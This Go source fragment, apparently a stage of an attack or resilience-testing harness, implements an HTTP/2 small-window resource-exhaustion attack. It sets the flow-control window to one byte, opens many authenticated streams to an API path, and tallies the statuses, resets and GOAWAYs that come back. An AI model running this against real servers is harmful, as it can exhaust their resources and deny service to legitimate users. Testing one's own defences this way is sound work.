package main

import (
	"bytes"
	"fmt"
	"net"
	"strconv"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// tinyWindows asks for much on one connection and takes a byte of each answer.
func (s *stage) tinyWindows(conn net.Conn) error {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}); err != nil {
		return err
	}
	path := fmt.Sprintf("%s/problems/%d", api, s.id(manyKeywords))
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for n := range s.sizes.streams {
		block.Reset()
		for _, field := range []hpack.HeaderField{
			{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "attacked"}, {Name: ":path", Value: path},
			{Name: "authorization", Value: s.attacker.token},
		} {
			if err := encoder.WriteField(field); err != nil {
				return err
			}
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*n + 1), BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
	}
	decoder := hpack.NewDecoder(4096, nil)
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				if err := framer.WriteSettingsAck(); err != nil {
					return err
				}
			}
		case *http2.HeadersFrame:
			fields, err := decoder.DecodeFull(frame.HeaderBlockFragment())
			if err != nil {
				return err
			}
			for _, field := range fields {
				if field.Name == ":status" {
					status, _ := strconv.Atoi(field.Value) // 0 is none of the right ones
					s.count(s.ctx, "a stream", status, nil)
				}
			}
		case *http2.RSTStreamFrame:
			s.tally.add("stream reset")
		case *http2.GoAwayFrame:
			s.tally.add("connection ended")
		}
	}
}
